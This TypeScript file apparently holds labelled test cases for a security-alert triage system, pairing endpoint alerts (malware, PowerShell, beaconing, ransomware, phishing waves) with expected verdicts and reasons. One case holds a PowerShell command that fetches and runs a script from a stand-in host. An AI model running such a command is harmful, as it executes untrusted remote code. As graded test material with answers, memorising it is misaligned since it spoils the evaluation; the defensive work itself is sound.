import { computer, digest, endpointAlertId } from '../company.js';
import {
  CONCLUDED,
  detection,
  endpointAlert,
  file,
  huntingRow,
  incident,
  investigation,
  ip,
  machineRisk,
  ownIndicator,
  reputation,
} from '../facts.js';
import { attack, harmless, type LabelledCase } from '../labelled-case.js';

const MALWARE = 'Malware blocked by endpoint agent';
const PORTUGUESE = 'Detecção de malware no endpoint';
const SCRIPT = 'Suspicious PowerShell';
const TASK = 'Scheduled task persistence';
const BEACON = 'Beaconing to rare destination';
const RANSOM = 'Ransomware precursor';
const USB = 'USB device blocked';
const DRIVER = 'Signed driver anomaly';
const SUPPORT = 'Remote support tool started';
const HASH = 'Threat intelligence match';
const WAVE = 'Mail campaign against several people';

const pc = (number: number, user: string) => computer(`sp-nb-${number}`, user);

const files: readonly LabelledCase[] = [
  (() => {
    const on = pc(5001, 'eprado');
    const sha256 = digest('fake update');
    return attack('malicious', {
      type: MALWARE,
      name: 'a fake update that ran',
      format: 'CrowdStrike JSON',
      kinds: ['malware event', 'machine known', 'reputation'],
      told: { title: 'Fake update', host: on.dnsName, user: on.user, sha256, fileName: 'atualiza.exe' },
      facts: [detection(on, 'Executed malware', sha256, 2), reputation('hash', sha256, 92)],
      why: 'The agent saw the file run, and its reputation is bad.',
    });
  })(),
  (() => {
    const on = pc(5002, 'fquadros');
    const sha256 = digest('locker');
    return attack('malicious', {
      type: PORTUGUESE,
      name: 'a file that could not be removed',
      format: 'Portuguese prose',
      kinds: ['malware event', 'machine known'],
      told: { title: 'arquivo malicioso', host: on.dnsName, user: on.user, sha256, fileName: 'cifra.exe' },
      facts: [detection(on, 'Threat Detected', sha256, 3), detection(on, 'Quarantine Failure', sha256, 2.9)],
      why: 'The agent calls the file malicious and could not remove it.',
    });
  })(),
  (() => {
    const on = pc(5003, 'gramalho');
    const sha256 = digest('adware bundle');
    return attack(['malicious', 'suspicious'], {
      type: MALWARE,
      name: 'a file that was removed in time',
      format: 'Sophos JSON',
      kinds: ['malware event', 'machine known'],
      told: { title: 'Unwanted program', host: on.name, user: on.user, sha256, fileName: 'cupons.exe' },
      facts: [detection(on, 'Threat Detected', sha256, 6), detection(on, 'Threat Quarantined', sha256, 5.9)],
      why: 'A malicious file reached the machine and was removed.',
    });
  })(),
  (() => {
    const on = pc(5004, 'hsalgado');
    return harmless('inconclusive', {
      type: MALWARE,
      name: 'a file that nobody knows',
      format: 'SentinelOne JSON',
      kinds: ['unknown indicator', 'machine known'],
      told: { title: 'Uncommon program', host: on.dnsName, user: on.user, sha256: digest('macro of an actuary'), fileName: 'reserva.exe' },
      why: 'No third party knows the file, and the machine has no record.',
    });
  })(),
  (() => {
    const on = pc(5005, 'itoledo');
    const sha256 = digest('branch tool');
    return harmless('benign', {
      type: PORTUGUESE,
      name: 'a tool of the branches that an analyst cleared',
      format: 'GLPI ticket',
      kinds: ['endpoint alert', 'machine known'],
      told: { title: 'Programa bloqueado', reporter: 'central.servicos@iperoxo.example', host: on.dnsName, user: on.user, sha256 },
      facts: [
        endpointAlert(on, {
          title: 'Program blocked',
          severity: 'Medium',
          hoursAgo: 9,
          concluded: CONCLUDED.falsePositive,
          evidence: [file(sha256, 'filial.exe')],
        }),
      ],
      why: 'An analyst closed the alert about this file on this machine as a false positive today.',
    });
  })(),
  (() => {
    const on = pc(5006, 'juchoa');
    const sha256 = digest('password recovery tool');
    return harmless('benign', {
      type: MALWARE,
      name: 'a tool with a bad name that an analyst cleared',
      format: 'Cortex XDR JSON',
      kinds: ['endpoint alert', 'reputation', 'machine known'],
      told: { title: 'Password tool', host: on.dnsName, user: on.user, sha256 },
      facts: [
        reputation('hash', sha256, 78),
        endpointAlert(on, {
          title: 'Password tool',
          severity: 'Medium',
          hoursAgo: 14,
          concluded: CONCLUDED.falsePositive,
          concludedHoursAgo: 10,
          evidence: [file(sha256)],
        }),
      ],
      why: 'An analyst knew the file and closed the alert about it on this machine as a false positive today.',
    });
  })(),
  (() => {
    const on = pc(5007, 'kvasques');
    const sha256 = digest('archiver with a back door');
    return attack('malicious', {
      type: MALWARE,
      name: 'a file that was cleared a month ago and ran today',
      format: 'Portuguese TSV',
      kinds: ['endpoint alert', 'malware event', 'stale fact', 'machine known'],
      told: { title: 'Programa bloqueado', host: on.dnsName, user: on.user, sha256, fileName: 'compacta.exe' },
      facts: [
        endpointAlert(on, {
          title: 'Archiver',
          severity: 'Low',
          hoursAgo: 24 * 34,
          concluded: CONCLUDED.falsePositive,
          concludedHoursAgo: 24 * 33,
          evidence: [file(sha256)],
        }),
        detection(on, 'Executed malware', sha256, 1),
        reputation('hash', sha256, 85),
      ],
      why: 'The file ran as malware today; the false positive is a month old.',
    });
  })(),
  (() => {
    const on = pc(5008, 'lximenes');
    const sha256 = digest('installer of a game');
    return attack('suspicious', {
      type: MALWARE,
      name: 'a file with a doubtful reputation',
      format: 'LEEF 1.0',
      kinds: ['reputation', 'machine known'],
      told: { title: 'Uncommon program', host: on.dnsName, user: on.user, sha256 },
      facts: [reputation('hash', sha256, 44)],
      why: 'The reputation is 44, and nothing else is known.',
    });
  })(),
  (() => {
    const sha256 = digest('botnet client');
    const on = pc(5009, 'mzago');
    return attack('malicious', {
      type: HASH,
      name: 'a bad file that the hunt finds',
      format: 'STIX bundle',
      kinds: ['reputation', 'hunting row'],
      told: { title: 'Botnet client', sha256 },
      facts: [
        reputation('hash', sha256, 93),
        huntingRow('DeviceProcessEvents', on, 4, {
          FileName: 'agente.exe',
          SHA256: sha256,
          ActionType: 'ProcessCreated',
          ProcessCommandLine: 'agente.exe -d',
        }),
      ],
      why: 'The file is bad, and a hunting query shows that it ran on an own machine.',
    });
  })(),
  attack(['suspicious', 'malicious'], {
    type: HASH,
    name: 'a bad file without any contact',
    format: 'STIX bundle',
    kinds: ['reputation'],
    told: { title: 'Loader of a campaign', sha256: digest('loader elsewhere') },
    facts: [reputation('hash', digest('loader elsewhere'), 84)],
    why: 'The file is bad, and nothing shows that it reached the company.',
  }),
  harmless(['inconclusive', 'benign'], {
    type: HASH,
    name: 'an address with a clean reputation',
    format: 'STIX bundle',
    kinds: ['reputation'],
    told: { title: 'Indicators of a partner', remoteIp: '192.0.2.62' },
    facts: [reputation('ip', '192.0.2.62', 0)],
    why: 'The platform calls the address clean, and nothing shows a contact.',
  }),
  (() => {
    const on = pc(5010, 'naranha');
    const sha256 = digest('approved kiosk program');
    return harmless(['benign', 'inconclusive'], {
      type: MALWARE,
      name: 'a file that the company allows',
      format: 'Tenable finding',
      kinds: ['own indicator', 'machine known'],
      told: { title: 'Program blocked', host: on.dnsName, sha256 },
      facts: [ownIndicator('FileSha256', sha256, 'Allowed', 'Program of the service kiosks')],
      why: 'The company allows the file on its endpoints.',
    });
  })(),
  (() => {
    const on = pc(5011, 'obelmonte');
    const sha256 = digest('cracked editor');
    return attack(['suspicious', 'malicious'], {
      type: MALWARE,
      name: 'a file that the company blocks',
      format: 'Chat export',
      kinds: ['own indicator', 'machine known'],
      told: { title: 'Programa bloqueado', host: on.name, user: on.user, sha256 },
      facts: [ownIndicator('FileSha256', sha256, 'Block', 'Cracked editor with a stealer')],
      why: 'The company blocks the file because of a stealer, and it is on a machine.',
    });
  })(),
  harmless('inconclusive', {
    type: PORTUGUESE,
    name: 'a machine and a file that nobody knows',
    format: 'Hidden characters',
    kinds: ['unknown machine', 'unknown indicator'],
    told: { title: 'Programa bloqueado', host: 'totem-loja-77', sha256: digest('kiosk file'), fileName: 'totem.bin' },
    why: 'No third party knows the machine or the file.',
  }),
];

const behaviour: readonly LabelledCase[] = [
  (() => {
    const on = pc(5101, 'pcamargo');
    return attack('malicious', {
      type: SCRIPT,
      name: 'a script of a bad page',
      format: 'Windows event XML',
      kinds: ['reputation', 'machine known'],
      told: {
        title: 'PowerShell download',
        host: on.dnsName,
        user: on.user,
        command: 'powershell -c "iwr https://cdn-pacote-fonte.example/a.ps1 | iex"',
      },
      facts: [reputation('url', 'https://cdn-pacote-fonte.example/a.ps1', 88), reputation('domain', 'cdn-pacote-fonte.example', 82)],
      why: 'The machine ran a script of a page with a bad reputation.',
    });
  })(),
  (() => {
    const on = pc(5102, 'qdomingues');
    return harmless('benign', {
      type: SCRIPT,
      name: 'the inventory script',
      format: 'Portuguese HTML',
      kinds: ['endpoint alert', 'machine known'],
      told: {
        title: 'PowerShell com parâmetro oculto',
        host: on.dnsName,
        user: on.user,
        command: 'powershell -w hidden -File \\\\sp-arq\\inv\\coleta.ps1',
      },
      facts: [endpointAlert(on, { title: 'Hidden PowerShell window', severity: 'Medium', hoursAgo: 5, concluded: CONCLUDED.expected })],
      why: 'An analyst closed the same alert on this machine as expected activity today.',
    });
  })(),
  (() => {
    const on = pc(5103, 'rescobar');
    return harmless(['inconclusive', 'suspicious'], {
      type: SCRIPT,
      name: 'a script that nobody knows',
      format: 'Markdown, defanged',
      kinds: ['machine known'],
      told: { title: 'PowerShell', host: on.dnsName, user: on.user, command: 'powershell -File D:\\planilhas\\fecha-mes.ps1' },
      why: 'No third party knows the script, and the machine has no record.',
    });
  })(),
  (() => {
    const on = pc(5104, 'sfalconi');
    return harmless('benign', {
      type: TASK,
      name: 'a task of the red team',
      format: 'Azure Monitor',
      kinds: ['investigation', 'machine known'],
      told: { title: 'Scheduled task created', host: on.dnsName, text: 'Task name: AtualizaCache' },
      facts: [investigation(`Scheduled task on ${on.name}`, 'SECURITY_TEST', 6, 'HIGH')],
      why: 'The investigation about this task on this machine was closed as a security test today.',
    });
  })(),
  (() => {
    const on = pc(5105, 'tgodinho');
    return attack('malicious', {
      type: TASK,
      name: 'a task in a confirmed investigation',
      format: 'QRadar offense',
      kinds: ['investigation', 'machine known'],
      told: { title: 'Scheduled task created', host: on.dnsName, user: on.user },
      facts: [investigation(`Scheduled task keeps access on ${on.name}`, 'MALICIOUS', 4, 'HIGH')],
      why: 'The investigation about this machine and task was closed as malicious today.',
    });
  })(),
  (() => {
    const on = pc(5106, 'uhorta');
    return attack('suspicious', {
      type: TASK,
      name: 'a task beside an open alert',
      format: 'CEF, Trend Micro',
      kinds: ['endpoint alert', 'machine known'],
      told: { title: 'Scheduled task created', host: on.dnsName, user: on.user },
      facts: [endpointAlert(on, { title: 'Task starts a script host', severity: 'Medium', hoursAgo: 1 })],
      why: 'An open alert of medium severity on the same machine fits; nobody has judged it.',
    });
  })(),
  (() => {
    const on = pc(5107, 'vibiapina');
    return attack('malicious', {
      type: BEACON,
      name: 'a machine that only its address names',
      format: 'Vectra JSON in syslog',
      kinds: ['internal address', 'reputation', 'machine known'],
      told: { title: 'Hidden HTTPS tunnel', internalIp: on.internalIp, remoteIp: '203.0.113.93' },
      facts: [reputation('ip', '203.0.113.93', 91, 'Validated C&C Server')],
      why: 'An own machine contacts a command server.',
    });
  })(),
  (() => {
    const on = pc(5108, 'wjardim');
    return harmless('benign', {
      type: BEACON,
      name: 'the beacon of a monitoring agent',
      format: 'SonicWall key=value',
      kinds: ['investigation', 'internal address', 'reputation'],
      told: { title: 'Regular connections', internalIp: on.internalIp, remoteIp: '192.0.2.63' },
      facts: [reputation('ip', '192.0.2.63', 0), investigation('Regular connections to 192.0.2.63 by the monitoring agent', 'BENIGN', 20)],
      why: 'The investigation about this destination was closed as benign yesterday.',
    });
  })(),
  harmless('inconclusive', {
    type: BEACON,
    name: 'an address and a destination that nobody knows',
    format: 'Snort alert',
    kinds: ['unknown machine', 'unknown indicator', 'internal address'],
    told: { title: 'Regular connections', internalIp: '10.77.250.9', remoteIp: '198.51.100.43' },
    why: 'No third party knows the internal address or the destination.',
  }),
  (() => {
    const on = pc(5109, 'xklein');
    return attack('malicious', {
      type: BEACON,
      name: 'a destination that was harmless last month',
      format: 'Alertmanager YAML',
      kinds: ['investigation', 'reputation', 'stale fact', 'machine known'],
      told: { title: 'Regular connections', host: on.dnsName, remoteIp: '203.0.113.94' },
      facts: [investigation('Connections to 203.0.113.94', 'BENIGN', 24 * 26), reputation('ip', '203.0.113.94', 89)],
      why: 'The benign conclusion is 26 days old; the reputation is bad today.',
    });
  })(),
  (() => {
    const on = computer('sp-arq-01', 'svc_arquivos', 'WindowsServer2022');
    const sha256 = digest('encryptor of policies');
    return attack('malicious', {
      type: RANSOM,
      name: 'an encryptor on the file server',
      format: 'Portuguese CSV, semicolons',
      kinds: ['malware event', 'machine known', 'reputation'],
      told: { title: 'Renomeação em massa', host: on.dnsName, sha256, text: '11 mil arquivos em 3 minutos' },
      facts: [detection(on, 'Executed malware', sha256, 0.4, 'W32.Encryptor'), reputation('hash', sha256, 97)],
      why: 'The agent saw the encryptor run.',
    });
  })(),
  (() => {
    const on = computer('sp-arq-02', 'svc_arquivos', 'WindowsServer2022');
    return harmless('benign', {
      type: RANSOM,
      name: 'the archive of closed claims',
      format: 'Jira markup',
      kinds: ['investigation', 'machine known'],
      told: { title: 'Mass rename', host: on.dnsName, text: '52,000 files in 9 minutes' },
      facts: [investigation(`Mass rename on ${on.name} (archive of closed claims)`, 'BENIGN', 19)],
      why: 'The investigation about this rename on this server was closed as benign yesterday.',
    });
  })(),
  (() => {
    const on = computer('rec-arq-01', 'svc_arquivos', 'WindowsServer2022');
    return harmless(['inconclusive', 'suspicious'], {
      type: RANSOM,
      name: 'a rename that nothing explains',
      format: 'Grafana with template names',
      kinds: ['machine known'],
      told: { title: 'Mass rename', host: on.dnsName, text: '900 files in 2 minutes' },
      why: 'No third party has a record about the server.',
    });
  })(),
  (() => {
    const on = pc(5110, 'ylobato');
    return attack('malicious', {
      type: USB,
      name: 'a worm came with the drive',
      format: 'auditd log',
      kinds: ['malware event', 'machine known'],
      told: { title: 'USB device', host: on.dnsName, user: on.user },
      facts: [detection(on, 'Threat Detected', digest('drive worm'), 0.5), detection(on, 'Executed malware', digest('drive worm'), 0.4)],
      why: 'Malware ran on this machine within the hour.',
    });
  })(),
  (() => {
    const on = pc(5111, 'zmaciel');
    return harmless('inconclusive', {
      type: USB,
      name: 'a drive without any record',
      format: 'Uruguayan prose',
      kinds: ['machine known'],
      told: { title: 'dispositivo USB bloqueado', host: on.dnsName, user: on.user },
      why: 'No third party has a record about the machine.',
    });
  })(),
  (() => {
    const on = pc(5112, 'anabuco');
    return harmless('benign', {
      type: USB,
      name: 'the drive of the auditors',
      format: 'Portuguese prose',
      kinds: ['incident', 'machine known'],
      told: { title: 'dispositivo USB bloqueado', host: on.dnsName, user: on.user },
      facts: [
        incident(84_301, { name: 'USB device of the auditors', severity: 'Low', hoursAgo: 7, concluded: CONCLUDED.expected, on: [on] }),
      ],
      why: 'The incident about the drive on this machine was closed as expected activity.',
    });
  })(),
  (() => {
    const on = pc(5113, 'boliveto');
    return attack('malicious', {
      type: DRIVER,
      name: 'a machine that only its device id names',
      format: 'INI',
      kinds: ['endpoint alert', 'machine known'],
      told: { title: 'Driver loaded', deviceId: on.machineId, fileName: 'amsys.sys' },
      facts: [
        endpointAlert(on, {
          title: 'Vulnerable driver loaded by an attacker',
          severity: 'High',
          hoursAgo: 5,
          concluded: CONCLUDED.malware,
          concludedHoursAgo: 2,
        }),
      ],
      why: 'The device id leads to a machine with an attack that an analyst confirmed today.',
    });
  })(),
  (() => {
    const id = endpointAlertId('cleared driver');
    return harmless('benign', {
      type: DRIVER,
      name: 'an alert that only its id names, cleared',
      format: 'Hidden characters',
      kinds: ['endpoint alert'],
      told: { title: 'Driver loaded', alertId: id },
      facts: [
        endpointAlert(pc(5114, 'cpaschoal'), {
          id,
          title: 'Scanner driver',
          severity: 'Low',
          hoursAgo: 8,
          concluded: CONCLUDED.falsePositive,
        }),
      ],
      why: 'The alert with this id was closed as a false positive today.',
    });
  })(),
  (() => {
    const id = endpointAlertId('confirmed driver');
    return attack('malicious', {
      type: DRIVER,
      name: 'an alert that only its id names, confirmed',
      format: 'Portuguese TSV',
      kinds: ['endpoint alert'],
      told: { title: 'Driver carregado', alertId: id },
      facts: [
        endpointAlert(pc(5115, 'dquirino'), {
          id,
          title: 'Driver stops the sensor',
          severity: 'High',
          hoursAgo: 8,
          concluded: CONCLUDED.malware,
          concludedHoursAgo: 3,
        }),
      ],
      why: 'The alert with this id was closed as malware today.',
    });
  })(),
  (() => {
    const on = pc(5116, 'erezende');
    return harmless('benign', {
      type: SUPPORT,
      name: 'the support of the printer maker',
      format: 'LEEF 1.0',
      kinds: ['investigation', 'machine known'],
      told: { title: 'Remote support', host: on.dnsName, remoteIp: '192.0.2.64' },
      facts: [investigation(`Remote support session on ${on.name}`, 'BENIGN', 3)],
      why: 'The investigation about this session was closed as benign three hours ago.',
    });
  })(),
  (() => {
    const on = pc(5117, 'fsertorio');
    return attack('malicious', {
      type: SUPPORT,
      name: 'a support session from a bad address',
      format: 'Check Point Harmony',
      kinds: ['reputation', 'machine known'],
      told: { title: 'Remote support', host: on.dnsName, user: on.user, remoteIp: '203.0.113.95' },
      facts: [reputation('ip', '203.0.113.95', 86)],
      why: 'An address with a bad reputation had a session on an own machine.',
    });
  })(),
  (() => {
    const cleared = pc(5118, 'gtrindade');
    const on = pc(5119, 'huzeda');
    return attack(['suspicious', 'malicious'], {
      type: SUPPORT,
      name: 'a new open alert beside the cleared one of another machine',
      format: 'Netskope JSON',
      kinds: ['endpoint alert', 'another entity', 'machine known'],
      told: { title: 'Remote support', host: on.dnsName, user: on.user, remoteIp: '198.51.100.44' },
      facts: [
        endpointAlert(cleared, {
          title: 'Remote support tool',
          severity: 'Medium',
          hoursAgo: 50,
          concluded: CONCLUDED.falsePositive,
          evidence: [ip('198.51.100.44')],
        }),
        endpointAlert(on, { title: 'Remote support tool starts a shell', severity: 'High', hoursAgo: 1, evidence: [ip('198.51.100.44')] }),
        machineRisk(on, 'High'),
      ],
      why: 'The false positive concerned another machine; the open alert of high severity on this one is not reviewed.',
    });
  })(),
];

/** One attack reaches many people: its values are in many records too, and prove it. */
const waves: readonly LabelledCase[] = (() => {
  const url = 'https://reembolso-sinistro.example/form';
  const victims = [5201, 5202, 5203, 5204, 5205].map((number, index) => pc(number, `campanha${index + 1}`));
  const [first, second] = victims;
  if (!first || !second) throw new Error('the wave has no victims');
  const burst = pc(5210, 'ivaladares');
  return [
    attack('malicious', {
      type: WAVE,
      name: 'a page that five people opened',
      format: 'Security Command Center',
      kinds: ['wave of one attack', 'reputation', 'machine known'],
      told: { title: 'Phishing page opened', host: first.dnsName, user: first.user, url },
      facts: [
        reputation('url', url, 95, 'Recently Active URL on Phishing Site'),
        reputation('domain', 'reembolso-sinistro.example', 93),
        ...victims.map((on) =>
          endpointAlert(on, {
            title: 'Phishing page opened',
            severity: 'Medium',
            hoursAgo: 2,
            concluded: CONCLUDED.phishing,
            evidence: [{ entityType: 'Url', url }],
          }),
        ),
      ],
      why: 'The page has a bad reputation and all records confirm it, this machine included; its spread is that of the campaign.',
    }),
    attack('malicious', {
      type: WAVE,
      name: 'the next victim of the same page, without an own record',
      format: 'Portuguese mail thread',
      kinds: ['wave of one attack', 'reputation'],
      told: {
        title: 'Link aberto',
        user: 'campanha9@iperoxo.example',
        url,
        text: 'O usuário confirmou que abriu o link e digitou a senha.',
      },
      why: 'An own account opened a page with a bad reputation that analysts confirmed as phishing today.',
    }),
    attack('malicious', {
      type: WAVE,
      name: 'a command server that many machines contact',
      format: 'Squid access log',
      kinds: ['wave of one attack', 'reputation', 'hunting row', 'internal address'],
      told: { title: 'Contact with a command server', internalIp: second.internalIp, remoteIp: '203.0.113.96' },
      facts: [
        reputation('ip', '203.0.113.96', 96, 'Validated C&C Server'),
        ...victims.map((on, index) =>
          huntingRow('DeviceNetworkEvents', on, 1 + index, { RemoteIP: '203.0.113.96', ActionType: 'ConnectionSuccess' }),
        ),
      ],
      why: 'The address is a command server, and this machine contacts it; that others do too is worse, not better.',
    }),
    attack(['malicious', 'suspicious'], {
      type: RANSOM,
      name: 'eight alerts of one machine within an hour',
      format: 'English prose',
      kinds: ['wave of one attack', 'endpoint alert', 'machine known'],
      told: { title: 'several detections on one machine', host: burst.dnsName, user: burst.user },
      facts: [
        'Shadow copies deleted',
        'Backup service stopped',
        'Credentials read from memory',
        'Event log cleared',
        'Security tool stopped',
        'Mass rename',
        'Remote service created',
        'Ransom note written',
      ].map((title, index) => endpointAlert(burst, { title, severity: 'High', hoursAgo: 1 - index * 0.1 })),
      why: 'Eight open alerts of high severity about one machine within an hour are a signal, not shared infrastructure.',
    }),
  ];
})();

export const endpoints: readonly LabelledCase[] = [...files, ...behaviour, ...waves];
